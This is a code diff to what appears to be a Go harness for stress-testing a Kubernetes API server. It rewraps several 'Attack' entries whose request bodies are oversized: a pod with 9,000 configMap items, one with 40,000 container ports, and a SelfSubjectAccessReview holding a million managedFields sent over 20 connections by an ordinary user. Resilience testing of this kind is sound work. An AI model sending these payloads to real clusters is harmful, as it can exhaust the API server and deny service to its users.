@@ -18,7 +18,8 @@ func bodies() []Attack {
 			Does: "Creates, as a dry run, a pod with a volume of 9,000 items that all have the same path.",
 			Run: func(ctx context.Context, a *Attacker) error {
 				return again(1, attacker, post(pods, pod(`"volumes":[{"name":"v","configMap":{"name":"c","items":[`+
-					items(9000, func(i int) string { return fmt.Sprintf(`{"key":"k%d","path":"p"}`, i) })+`]}}]`)))(ctx, a)
+					items(9000, func(i int) string { return fmt.Sprintf(`{"key":"k%d","path":"p"}`, i) })+
+					`]}}]`)))(ctx, a)
 			},
 		},
 		{
@@ -27,7 +28,8 @@ func bodies() []Attack {
 			Run: func(ctx context.Context, a *Attacker) error {
 				return again(1, attacker, post(pods,
 					`{"metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"i","ports":[`+
-						items(40_000, func(int) string { return `{"containerPort":80,"hostPort":80}` })+`]}]}}`))(ctx, a)
+						items(40_000, func(int) string { return `{"containerPort":80,"hostPort":80}` })+
+						`]}]}}`))(ctx, a)
 			},
 		},
 		{
@@ -65,10 +67,11 @@ func bodies() []Attack {
 		},
 		{
 			Group: "bodies", Name: "review", Answers: 1,
-			Does: "Sends a SelfSubjectAccessReview with a million empty managedFields, on 20 connections, which every user may.",
+			Does: "Sends a SelfSubjectAccessReview, as every user may, with a million managedFields, on 20 connections.",
 			Run: func(ctx context.Context, a *Attacker) error {
 				return again(20, stranger, post("/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
-					`{"metadata":{"managedFields":[`+million(`{}`)+`]},"spec":{"resourceAttributes":{"verb":"get"}}}`))(ctx, a)
+					`{"metadata":{"managedFields":[`+million(`{}`)+
+						`]},"spec":{"resourceAttributes":{"verb":"get"}}}`))(ctx, a)
 			},
 		},
 		{
